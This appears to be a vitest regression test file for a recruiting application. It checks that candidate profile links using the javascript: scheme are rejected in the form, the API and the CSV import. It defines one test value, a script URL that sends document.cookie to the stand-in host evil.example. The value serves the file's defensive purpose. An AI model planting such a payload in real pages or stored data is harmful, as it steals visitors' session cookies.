import { beforeAll, describe, expect, test } from "vitest";
import { importCandidates } from "@/lib/data/candidate-import";
import { createCandidate } from "@/lib/data/candidates";
import { ValidationError } from "@/lib/errors";
import { candidatesToCsv } from "@/lib/import/files";
import {
  candidateInput,
  createActor,
  rejectionOf,
  requestMeta,
  rowCounts,
  uid,
  type TestActor,
} from "./support/fixtures";

/**
 * onlineProfiles[].url accepted javascript: URLs, so a stored profile could carry a link that
 * runs script when clicked. The shared schema accepts http(s) only; the form, the API and the
 * CSV import all parse with it, so each refuses such a link with a field error.
 */
let recruiter: TestActor;
beforeAll(async () => {
  recruiter = await createActor("recruiter");
});

const EVIL = "javascript:fetch('//evil.example/'+document.cookie)";

describe("a javascript: profile link is refused everywhere a candidate is written", () => {
  test("createCandidate (form and API) refuses it with a field error and stores nothing", async () => {
    const before = await rowCounts();
    const err = await rejectionOf(
      createCandidate(
        recruiter,
        { ...candidateInput(), onlineProfiles: [{ kind: "github", url: EVIL }] },
        requestMeta(),
      ),
      ValidationError,
    );
    expect(err.fieldErrors["onlineProfiles.0.url"]).toEqual([
      "Only http:// and https:// addresses are accepted",
    ]);
    expect(await rowCounts()).toEqual(before);
  });

  test("the CSV import reports the row and stores nothing of it", async () => {
    const externalId = `JS-${uid()}`;
    const csv = candidatesToCsv([
      { ...candidateInput({ externalId }), onlineProfiles: [{ kind: "other", url: EVIL }] },
    ]).candidates;
    const result = await importCandidates(recruiter, { csv }, requestMeta());
    expect(result).toMatchObject({ created: 0, failed: 1 });
    expect(result.issues.map((i) => i.message)).toContain("Only http:// and https:// addresses are accepted");
  });
});
